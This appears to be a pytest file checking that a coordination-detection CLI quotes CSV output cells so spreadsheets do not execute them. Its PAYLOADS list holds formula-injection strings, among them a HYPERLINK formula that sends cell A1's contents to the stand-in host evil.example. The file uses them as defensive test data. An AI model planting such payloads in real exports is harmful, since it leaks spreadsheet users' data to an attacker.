"""``fimihub coordination detect --out x.csv --communities y.csv`` writes no cell a spreadsheet would run as a
formula."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from fimihub.cli import main
from fimihub.csvcells import QUOTE
from tests.test_csvcells import safe

#: Account ids, handles, texts and URLs as a hostile account holder would write them.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+SUM(1,2)",
    "-1+1",
    "@cmd",
    "\t=1+1",
    "\r=2+2",
]


def detect(capsys: pytest.CaptureFixture[str], source: Path, out: Path) -> None:
    argv = ["coordination", "detect", str(source), "--window", "60", "--method", "components"]
    code = main([*argv, "--out", str(out), "--communities", str(out.with_name("communities.csv")), "--json"])
    summary = json.loads(capsys.readouterr().out)
    assert code == 0 and summary["edges"] > 0
    # The communities file names the accounts and the objects they shared: quoted the same way.
    header, *body = cells(out.with_name("communities.csv"))
    assert body and "top_objects" in header
    for row in body:
        assert all(safe(cell) for cell in row), row


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_object_table_payloads_come_out_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Every account acts on the same two objects within seconds: every pair of them is an edge.
    rows = [
        (obj, account, t0 + i)
        for obj, t0 in (("o1", 1000), ("o2", 5000))
        for i, account in enumerate(PAYLOADS)
    ]
    table = pa.table(
        {
            "object_id": [r[0] for r in rows],
            "account_id": [r[1] for r in rows],
            "content_id": [f"c{i}" for i in range(len(rows))],
            "timestamp_share": [str(r[2]) for r in rows],
        }
    )
    source = tmp_path / "objects.parquet"
    pq.write_table(table, source)
    out = tmp_path / "edges.csv"
    detect(capsys, source, out)

    header, *body = cells(out)
    assert {"account_1", "account_2", "weight", "community_1"} <= set(header)
    assert len(body) == len(PAYLOADS) * (len(PAYLOADS) - 1) // 2
    for row in body:
        assert all(safe(cell) for cell in row), row
    accounts = {row[header.index(side)] for row in body for side in ("account_1", "account_2")}
    # Account ids are stripped on the way in, so "\t=1+1" comes out as a formula unless it is quoted.
    assert accounts == {QUOTE + p.strip() for p in PAYLOADS}
    # The numbers are numbers still: a spreadsheet sums the weights.
    assert {int(row[header.index("weight")]) for row in body} == {2}


def test_platform_export_payloads_come_out_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # A platform export whose account ids, handles, texts and URLs carry payloads; the accounts repost the
    # same two posts and share the same link within seconds.
    rows: list[dict[str, str]] = []
    for n, (post, t0) in enumerate((("p1", 1000), ("p2", 5000))):
        for i, payload in enumerate(PAYLOADS):
            rows.append(
                {
                    "platform": "x",
                    "account_id": payload,
                    "handle": payload,
                    "display_name": payload,
                    "post_id": f"{n}-{i}",
                    "posted_at": str(t0 + i),
                    "text": f"{payload} shared words for the near duplicate text check {n}",
                    "urls": f"https://evil.example/{n}?q={payload[:2]}",
                    "hashtags": "",
                    "image_pdq": "",
                    "repost_of": post,
                }
            )
    table = pa.table({name: [r[name] for r in rows] for name in rows[0]})
    source = tmp_path / "export.csv"
    pacsv.write_csv(table, source)
    out = tmp_path / "edges.csv"
    detect(capsys, source, out)

    header, *body = cells(out)
    assert body
    for row in [header, *body]:
        assert all(safe(cell) for cell in row), row
